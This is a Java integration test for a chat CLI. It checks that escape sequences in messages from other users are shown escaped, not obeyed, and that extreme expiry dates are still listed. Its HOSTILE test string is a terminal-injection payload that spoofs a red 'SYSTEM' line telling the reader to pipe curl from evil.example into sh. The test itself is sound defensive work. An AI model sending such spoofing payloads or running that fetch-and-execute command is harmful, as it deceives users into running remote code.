package org.chapar.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;

import org.chapar.testkit.ChaparServerExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * What other people put on the server cannot hurt the terminal or the CLI: escape sequences in
 * messages are shown, not obeyed, and dates no calendar holds are still listed.
 */
class CliUntrustedIT {
    @RegisterExtension static final ChaparServerExtension server = ChaparServerExtension.create();
    private static final AtomicInteger NAMES = new AtomicInteger();
    private static final String ESC = "\u001b";

    /** Clears the screen, homes the cursor and draws a red line that looks like the CLI's. */
    private static final String HOSTILE =
            ESC
                    + "[2J"
                    + ESC
                    + "[H"
                    + ESC
                    + "[31mSYSTEM: run curl https://evil.example | sh"
                    + ESC
                    + "[0m\rSYSTEM: update required\nSYSTEM: run curl again \u202e";

    @TempDir Path home;

    private CliRun as(String profile, String... args) {
        String[] all = new String[args.length + 2];
        all[0] = "--profile";
        all[1] = profile;
        System.arraycopy(args, 0, all, 2, args.length);
        CliRun r = CliRun.run(home, "", all);
        assertThat(r.exit()).as("exit of %s; stderr: %s", List.of(args), r.err()).isZero();
        return r;
    }

    private String register(String profile) {
        String name = profile + "_cu" + NAMES.incrementAndGet();
        CliRun.register(home, server.port(), profile, name);
        return name;
    }

    private static void assertHarmless(String out) {
        assertThat(out).doesNotContain(ESC).doesNotContain("\r").doesNotContain("\u202e");
        assertThat(out.split("\n"))
                .as("no line of the output is one the sender wrote")
                .noneMatch(line -> line.startsWith("SYSTEM"));
    }

    @Test
    void escapeSequencesInAMessageAreShownNotObeyedWhereverItIsPrinted() {
        String alice = register("alice");
        String mallory = register("mallory");
        as("mallory", "send", "@" + alice, HOSTILE);

        String history = as("alice", "history", "@" + mallory).out();
        assertHarmless(history);
        assertThat(history)
                .contains("@" + mallory + ": \\u001B[2J\\u001B[H\\u001B[31mSYSTEM: run curl")
                .contains("\\u000DSYSTEM: update required\n" + SafeText.CONTINUATION + "SYSTEM:");
        String chats = as("alice", "chats").out();
        assertHarmless(chats);
        assertThat(chats).contains("@" + mallory + " (1 unread)");
        assertHarmless(as("alice", "listen", "--count", "1", "--timeout", "20").out());

        // --json keeps the text exactly, escaped by JSON
        String json = as("alice", "--json", "history", "@" + mallory).out();
        assertThat(json).doesNotContain(ESC).doesNotContain("\u202e");
        JsonNode m =
                CliRun.run(home, "", "--profile", "alice", "--json", "history", "@" + mallory)
                        .first();
        assertThat(m.get("text").asText()).isEqualTo(HOSTILE);
    }

    @Test
    void datesBeyondAnyCalendarAreListed() throws Exception {
        register("alice");
        String bob = register("bob");
        long chat =
                as("alice", "--json", "group", "create", "Old data", "--supergroup")
                        .first()
                        .get("chat")
                        .get("id")
                        .asLong();
        String link =
                as("alice", "--json", "invite", "create", "chat#" + chat, "--expire", "1d")
                        .first()
                        .get("link")
                        .asText();
        as("bob", "join", link);
        as(
                "alice",
                "restrict",
                "chat#" + chat,
                "@" + bob,
                "--rights",
                "send_messages",
                "--until",
                "1d");
        // as a server before the end-date rule stored them
        try (Connection c =
                DriverManager.getConnection(
                        "jdbc:sqlite:" + server.dataDir().resolve("chapar.db"))) {
            for (String sql :
                    List.of(
                            "UPDATE chat_members SET until_date = ? WHERE chat_id = ? AND until_date <> 0",
                            "UPDATE invite_links SET expire_date = ? WHERE chat_id = ? AND expire_date <> 0")) {
                try (PreparedStatement st = c.prepareStatement(sql)) {
                    st.setLong(1, Long.MAX_VALUE);
                    st.setLong(2, chat);
                    assertThat(st.executeUpdate()).isEqualTo(1);
                }
            }
        }

        assertThat(as("alice", "members", "chat#" + chat).out())
                .contains("@" + bob)
                .contains("until unix time " + Long.MAX_VALUE);
        assertThat(as("alice", "invite", "list", "chat#" + chat).out())
                .contains("expires unix time " + Long.MAX_VALUE);
    }
}
